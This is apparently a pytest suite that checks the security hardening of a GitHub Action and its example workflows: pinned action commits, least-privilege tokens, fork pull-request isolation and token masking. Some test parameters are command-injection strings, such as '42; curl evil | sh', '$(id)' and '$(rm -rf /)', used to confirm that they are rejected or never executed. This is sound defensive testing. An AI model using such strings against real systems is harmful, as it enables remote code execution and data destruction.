"""The security properties a reviewer checks in action.yml and the workflows.

Cheap structural checks that run with the unit tests; ``scripts/lint-actions.sh``
(actionlint and zizmor) runs the full linters.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot.commands.run import OPERATIONS as RUN_OPERATIONS

ROOT = Path(__file__).resolve().parents[1]
ACTION = ROOT / "action.yml"
CI = ROOT / ".github" / "workflows" / "ci.yml"
EXAMPLE = ROOT / "examples" / "flask-app" / ".github" / "workflows" / "shunter.yml"
APP_EXAMPLE = ROOT / "examples" / "app-token" / ".github" / "workflows" / "shunter.yml"
NOTIFY_EXAMPLE = ROOT / "examples" / "image-build" / ".github" / "workflows" / "build.yml"
FORK_PR = ROOT / "examples" / "forks" / ".github" / "workflows" / "shunter-pr.yml"
FORK_GATE = ROOT / "examples" / "forks" / ".github" / "workflows" / "shunter-gate.yml"
PIPELINES = [EXAMPLE, APP_EXAMPLE]
ALL_FILES = [ACTION, CI, *PIPELINES, NOTIFY_EXAMPLE, FORK_PR, FORK_GATE]

OPERATIONS = list(RUN_OPERATIONS)  # tests/test_action_operations.py derives them from the CLI
EMERGENCY_INPUTS = ["operation", "freight", "from", "stage", "warehouse", "reason"]
# The environment the CLI reads, and the action input that feeds each name.
CLI_ENV = {
    "GITHUB_TOKEN": "github-token",
    "SHUNTER_API_URL": "api-url",  # exported as GITHUB_API_URL inside the step
    "SHUNTER_CONFIG": "config",
    "SHUNTER_STATE_BRANCH": "state-branch",
    "SHUNTER_DRY_RUN": "dry-run",
    "SHUNTER_OPERATION": "operation",
    "SHUNTER_FREIGHT": "freight",
    "SHUNTER_FROM": "from",
    "SHUNTER_STAGE": "stage",
    "SHUNTER_WAREHOUSE": "warehouse",
    "SHUNTER_REASON": "reason",
    "SHUNTER_DEADLINE": "deadline",
    "SHUNTER_MODE": "mode",
    "SHUNTER_NOTIFY_REPOSITORY": "repository",
    "SHUNTER_PULL_REQUEST": "pull-request",
}
SHA_PIN = re.compile(r"^[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}$")


def load(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text())
    assert isinstance(data, dict)
    if True in data:  # YAML 1.1 reads the key `on` as the boolean true
        data["on"] = data.pop(True)
    return data


def steps_of(path: Path) -> list[dict[str, Any]]:
    data = load(path)
    if "runs" in data:
        return list(data["runs"]["steps"])
    return [step for job in data["jobs"].values() for step in job.get("steps", [])]


def action_step(name: str) -> dict[str, Any]:
    return next(s for s in steps_of(ACTION) if s.get("name") == name)


@pytest.mark.parametrize("path", ALL_FILES, ids=lambda p: p.name)
def test_no_expression_inside_any_run_script(path: Path) -> None:
    for step in steps_of(path):
        assert "${{" not in step.get("run", ""), (
            f"{path.name}: {step.get('name')} expands ${{{{ }}}}"
        )


@pytest.mark.parametrize("path", ALL_FILES, ids=lambda p: p.name)
def test_every_uses_is_pinned_to_a_full_sha_with_its_tag_in_a_comment(path: Path) -> None:
    lines = path.read_text().splitlines()
    uses = [s["uses"] for s in steps_of(path) if "uses" in s]
    assert uses
    for ref in uses:
        assert SHA_PIN.match(ref), f"{path.name}: {ref} is not pinned to a commit SHA"
        line = next(ln for ln in lines if f"uses: {ref}" in ln)
        assert re.search(r"#\s*v\d", line), f"{path.name}: say which tag {ref} is"


def test_the_same_action_is_pinned_to_the_same_commit_everywhere() -> None:
    pins: dict[str, set[str]] = {}
    for path in ALL_FILES:
        for step in steps_of(path):
            if "uses" in step:
                name, _, sha = step["uses"].partition("@")
                pins.setdefault(name, set()).add(sha)
    assert {name: len(shas) for name, shas in pins.items()} == dict.fromkeys(pins, 1)


@pytest.mark.parametrize("path", [CI, *PIPELINES, NOTIFY_EXAMPLE, FORK_PR, FORK_GATE], ids=str)
def test_top_level_permissions_are_empty_or_read_only(path: Path) -> None:
    permissions = load(path)["permissions"]
    assert permissions == {} or set(permissions.values()) == {"read"}


def test_the_example_job_asks_for_least_privilege_and_says_why() -> None:
    job = load(EXAMPLE)["jobs"]["shunter"]
    assert job["permissions"] == {
        "contents": "write",
        "pull-requests": "write",
        "checks": "write",
        "statuses": "write",
        "packages": "read",
        "actions": "write",
        "deployments": "write",
    }
    text = EXAMPLE.read_text()
    for scope in job["permissions"]:
        line = next(ln for ln in text.splitlines() if ln.strip().startswith(f"{scope}:"))
        assert "#" in line, f"permission {scope} has no comment saying why"


@pytest.mark.parametrize("path", PIPELINES, ids=str)
def test_no_run_can_cancel_another_or_a_queued_emergency_dispatch(path: Path) -> None:
    workflow = load(path)
    assert "concurrency" not in workflow  # a workflow-level group would be shared by all
    concurrency = workflow["jobs"]["shunter"]["concurrency"]
    assert concurrency["cancel-in-progress"] is False
    # The group as GitHub evaluates it for each event: dispatches never share one, so a
    # newer run (schedule tick, review, package, another dispatch) cannot replace a
    # pending emergency run; event runs share one, where replacing loses nothing.
    groups = {
        (event, run_id): evaluate_group(concurrency["group"], event, run_id)
        for event in ("schedule", "pull_request_review", "registry_package", "workflow_dispatch")
        for run_id in ("101", "102")
    }
    dispatch = {g for (e, _), g in groups.items() if e == "workflow_dispatch"}
    others = {g for (e, _), g in groups.items() if e != "workflow_dispatch"}
    assert len(dispatch) == 2 and not dispatch & others
    assert len(others) == 1


def evaluate_group(template: str, event: str, run_id: str) -> str:
    """The group GitHub computes, for the one expression form the examples use:
    ``${{ github.event_name == 'X' && github.run_id || 'Y' }}``."""
    match = re.fullmatch(
        r"(.*)\$\{\{\s*github\.event_name == '(\w+)' && github\.run_id \|\| '(\w+)'\s*\}\}(.*)",
        template.strip(),
    )
    assert match, f"unexpected concurrency group {template!r}"
    prefix, wanted, other, suffix = match.groups()
    return prefix + (run_id if event == wanted else other) + suffix


@pytest.mark.parametrize("path", PIPELINES, ids=str)
def test_the_example_listens_to_the_events_shunter_reacts_to(path: Path) -> None:
    on = load(path)["on"]
    assert on["schedule"] == [{"cron": "17 * * * *"}]  # hourly: ~744 billed minutes a month
    assert on["registry_package"]["types"] == ["published", "updated"]
    assert on["repository_dispatch"]["types"] == ["shunter-refresh"]
    assert on["pull_request_review"]["types"] == ["submitted"]
    # `package` is not a workflow trigger (GitHub rejects the file); PR code never runs
    # with the repository's write token.
    assert not {"package", "pull_request_target", "workflow_run"} & set(on)


@pytest.mark.parametrize("path", PIPELINES, ids=str)
def test_every_pr_into_main_gets_the_gate_check_from_a_job_that_cannot_write(path: Path) -> None:
    workflow = load(path)
    assert workflow["on"]["pull_request"] == {"branches": ["main"]}
    main_job, gate = workflow["jobs"]["shunter"], workflow["jobs"]["gate"]
    # pull_request events run the gate job only, and only for this repository's branches
    # (a fork's PR gets a read-only token: examples/forks/ checks those).
    assert "github.event_name != 'pull_request'" in main_job["if"]
    assert "github.event_name == 'pull_request'" in gate["if"]
    assert "head.repo.full_name == github.repository" in gate["if"]
    assert gate["permissions"] == {"contents": "read", "pull-requests": "read", "checks": "write"}
    checkout, shunter = gate["steps"]
    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    assert shunter["with"] == {
        "operation": "check-pr",
        "pull-request": "${{ github.event.pull_request.number }}",
    }
    # One pending check per PR: another PR's run never replaces it.
    assert gate["concurrency"] == {
        "group": "shunter-gate-${{ github.event.pull_request.number }}",
        "cancel-in-progress": False,
    }


def test_forks_are_checked_by_a_workflow_run_that_never_runs_their_code() -> None:
    record, check = load(FORK_PR), load(FORK_GATE)
    # Step 1 runs on the fork's PR with no permissions at all and only writes a number.
    assert set(record["on"]) == {"pull_request"}
    (job,) = record["jobs"].values()
    assert job["permissions"] == {}
    write, upload = job["steps"]
    assert write["env"] == {"PR_NUMBER": "${{ github.event.pull_request.number }}"}
    assert upload["uses"].startswith("actions/upload-artifact@")
    # Step 2 runs the default branch's file, triggered by step 1, never pull_request_target.
    assert check["on"] == {"workflow_run": {"workflows": [record["name"]], "types": ["completed"]}}
    for doc in (record, check):
        assert "pull_request_target" not in doc["on"]
    (gate,) = check["jobs"].values()
    assert gate["permissions"]["checks"] == "write"
    assert gate["permissions"]["contents"] == "read"
    # Nothing of the PR is checked out: the checkout is the default branch, and the PR's
    # head (its SHA or branch) reaches no step.
    steps = gate["steps"]
    checkout = next(s for s in steps if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    for step in steps:
        assert "head_sha" not in json.dumps(step) and "head_branch" not in json.dumps(step)
    shunter = next(s for s in steps if "shunter" in s.get("uses", ""))
    assert shunter["with"] == {
        "operation": "check-pr",
        "pull-request": "${{ steps.pr.outputs.number }}",
    }


@pytest.mark.parametrize(
    ("artifact", "number"),
    [("42\n", "42"), ("42; curl evil | sh\n", None), ("", None), ("$(id)\n", None)],
)
def test_the_fork_gate_takes_only_digits_from_the_artifact(
    tmp_path: Path, artifact: str, number: str | None
) -> None:
    (gate,) = load(FORK_GATE)["jobs"].values()
    step = next(s for s in gate["steps"] if s.get("id") == "pr")
    (tmp_path / "shunter-pr").mkdir()
    (tmp_path / "shunter-pr" / "number").write_text(artifact)
    output = tmp_path / "output"
    output.touch()
    env = {"RUNNER_TEMP": str(tmp_path), "GITHUB_OUTPUT": str(output)}
    if number is None:
        with pytest.raises(subprocess.CalledProcessError):
            run_step(step, env)
        assert output.read_text() == ""
    else:
        run_step(step, env)
        assert output.read_text() == f"number={number}\n"


def test_the_app_token_example_mints_a_token_and_hands_it_to_checkout_and_shunter() -> None:
    steps = steps_of(APP_EXAMPLE)
    mint = steps[0]
    assert mint["uses"].startswith("actions/create-github-app-token@")
    assert {k: v for k, v in mint["with"].items() if k.startswith("permission-")} == {
        "permission-contents": "write",
        "permission-pull-requests": "write",
        "permission-checks": "write",
        "permission-statuses": "write",
        "permission-deployments": "write",
        "permission-actions": "write",
        "permission-packages": "read",
        "permission-members": "read",  # approver teams: what GITHUB_TOKEN cannot read
    }
    assert mint["with"]["private-key"].startswith("${{ secrets.")
    token = "${{ steps." + mint["id"] + ".outputs.token }}"
    checkout = next(s for s in steps if s["uses"].startswith("actions/checkout@"))
    shunter = next(s for s in steps if s.get("id") == "shunter")
    assert checkout["with"]["token"] == token
    assert shunter["with"]["github-token"] == token
    # GITHUB_TOKEN itself gets nothing: the App's permissions are what Shunter uses.
    assert load(APP_EXAMPLE)["jobs"]["shunter"]["permissions"] == {}


def test_the_notify_example_dispatches_with_a_token_for_the_other_repository() -> None:
    step = next(s for s in steps_of(NOTIFY_EXAMPLE) if "shunter" in s.get("uses", ""))
    assert step["with"]["mode"] == "notify"
    assert step["with"]["github-token"].startswith("${{ secrets.")
    assert step["with"]["repository"] and step["with"]["warehouse"]


def test_the_example_checkout_makes_a_deliberate_credentials_choice() -> None:
    checkout = next(s for s in steps_of(EXAMPLE) if s["uses"].startswith("actions/checkout@"))
    assert checkout["with"]["persist-credentials"] is True  # the bot pushes with git
    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    ci_checkout = next(s for s in steps_of(CI) if s["uses"].startswith("actions/checkout@"))
    assert ci_checkout["with"]["persist-credentials"] is False


@pytest.mark.parametrize("path", PIPELINES, ids=str)
def test_dispatch_inputs_mirror_the_actions_emergency_inputs(path: Path) -> None:
    dispatch = load(path)["on"]["workflow_dispatch"]["inputs"]
    assert list(dispatch) == EMERGENCY_INPUTS
    assert dispatch["operation"]["type"] == "choice"
    assert dispatch["operation"]["options"] == ["reconcile", *OPERATIONS]
    shunter = next(s for s in steps_of(path) if s.get("id") == "shunter")
    passed = {k: v for k, v in shunter["with"].items() if k not in ("github-token", "dashboard")}
    assert passed == {name: f"${{{{ inputs.{name} }}}}" for name in EMERGENCY_INPUTS}
    action_inputs = load(ACTION)["inputs"]
    for name in EMERGENCY_INPUTS:
        assert action_inputs[name]["default"] == ""
    assert all(op in action_inputs["operation"]["description"] for op in OPERATIONS)


def test_action_inputs_and_defaults() -> None:
    inputs = load(ACTION)["inputs"]
    assert {name: spec.get("default") for name, spec in inputs.items()} == {
        "github-token": "${{ github.token }}",
        "mode": "run",
        "repository": "",
        "config": "kargo",
        "state-branch": "shunter/state",
        "dry-run": "false",
        "api-url": "${{ github.api_url }}",
        "deadline": "",  # ProjectConfig spec.deadline, 10m
        **dict.fromkeys(EMERGENCY_INPUTS, ""),
        "pull-request": "",
        "dashboard": "",
    }
    outputs = load(ACTION)["outputs"]
    assert set(outputs) == {"promotions", "state-commit"}
    assert all("steps.run.outputs." in o["value"] for o in outputs.values())


def test_inputs_reach_the_cli_only_through_env() -> None:
    run = action_step("Run Shunter")
    assert run["id"] == "run"
    assert run["env"] == {name: f"${{{{ inputs.{i} }}}}" for name, i in CLI_ENV.items()}
    # No other step reads an input except through its own env block.
    for step in steps_of(ACTION):
        for key, value in step.items():
            if key not in ("env", "with") and isinstance(value, str):
                assert "inputs." not in value, f"{step.get('name')}.{key} reads an input"


def test_the_token_is_masked_before_anything_else_runs() -> None:
    first = steps_of(ACTION)[0]
    assert first["env"] == {"SHUNTER_TOKEN": "${{ inputs.github-token }}"}
    assert "::add-mask::" in first["run"]


def test_setup_python_leaves_the_jobs_python_alone() -> None:
    setup = next(s for s in steps_of(ACTION) if s.get("uses", "").startswith("actions/setup"))
    assert setup["with"]["update-environment"] is False


# --------------------------------------------------------------------------- run the steps


def run_step(step: dict[str, Any], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """Run a composite step's script with bash the way the runner does (``-e``)."""
    base = {"PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        env={**base, **env},
        capture_output=True,
        text=True,
        check=True,
        timeout=30,
    )


@pytest.mark.parametrize(
    ("token", "stdout"), [("ghs_s3cret", "::add-mask::ghs_s3cret\n"), ("", "")]
)
def test_the_mask_step_prints_the_mask_command(token: str, stdout: str) -> None:
    result = run_step(action_step("Mask the token"), {"SHUNTER_TOKEN": token})
    assert result.stdout == stdout


@pytest.mark.parametrize(("operation", "seen"), [("reconcile", ""), ("rollback", "rollback")])
def test_the_run_step_hands_the_cli_its_environment(
    tmp_path: Path, operation: str, seen: str
) -> None:
    fake = tmp_path / "shunter-venv" / "bin" / "shunter"
    fake.parent.mkdir(parents=True)
    fake.write_text(
        '#!/bin/sh\necho "args=$*"\necho "op=[$SHUNTER_OPERATION]"\n'
        'echo "api=$GITHUB_API_URL"\necho "reason=$SHUNTER_REASON"\n'
    )
    fake.chmod(0o755)
    env = {
        "RUNNER_TEMP": str(tmp_path),
        "GITHUB_API_URL": "https://api.github.com",
        "SHUNTER_API_URL": "https://ghe.example.com/api/v3",
        "SHUNTER_OPERATION": operation,
        "SHUNTER_REASON": "it's broken; $(rm -rf /) `x`",
    }
    result = run_step(action_step("Run Shunter"), env)
    assert result.stdout.splitlines() == [
        "args=run",
        f"op=[{seen}]",
        "api=https://ghe.example.com/api/v3",
        "reason=it's broken; $(rm -rf /) `x`",
    ]


@pytest.mark.parametrize(
    ("mode", "operation", "ran"),
    [
        ("run", "", "args=doctor\n"),
        ("notify", "", ""),
        ("run", "check-pr", ""),  # a refused PR is not the repository's problem
    ],
)
def test_a_failed_run_diagnoses_the_repository_except_in_notify_mode(
    tmp_path: Path, mode: str, operation: str, ran: str
) -> None:
    step = action_step("Diagnose the repository")
    assert step["if"] == "failure()"
    fake = tmp_path / "shunter-venv" / "bin" / "shunter"
    fake.parent.mkdir(parents=True)
    fake.write_text('#!/bin/sh\necho "args=$*"\nexit 1\n')  # doctor found a problem
    fake.chmod(0o755)
    env = {"RUNNER_TEMP": str(tmp_path), "SHUNTER_MODE": mode, "SHUNTER_OPERATION": operation}
    result = run_step(step, env)
    assert result.stdout == ran  # and the step itself succeeds: the run already failed


def test_the_dashboard_input_builds_the_site_where_the_pages_job_uploads_it(
    tmp_path: Path,
) -> None:
    step = action_step("Build the dashboard")
    assert step["if"] == "${{ !cancelled() }}"  # after a stuck run too
    fake = tmp_path / "shunter-venv" / "bin" / "shunter"
    fake.parent.mkdir(parents=True)
    fake.write_text('#!/bin/sh\necho "args=$*"\n')
    fake.chmod(0o755)
    site = tmp_path / "shunter site"
    result = run_step(step, {"RUNNER_TEMP": str(tmp_path), "SHUNTER_DASHBOARD": str(site)})
    assert result.stdout == f"args=dashboard --out {site}\n"
    assert run_step(step, {"RUNNER_TEMP": str(tmp_path), "SHUNTER_DASHBOARD": ""}).stdout == ""
    # The example hands the Action a folder outside the workspace and uploads that one.
    steps = steps_of(EXAMPLE)
    shunter = next(s for s in steps if s.get("id") == "shunter")
    upload = next(s for s in steps if s.get("uses", "").startswith("actions/upload-pages"))
    assert shunter["with"]["dashboard"] == upload["with"]["path"]
    assert shunter["with"]["dashboard"].startswith("${{ runner.temp }}/")
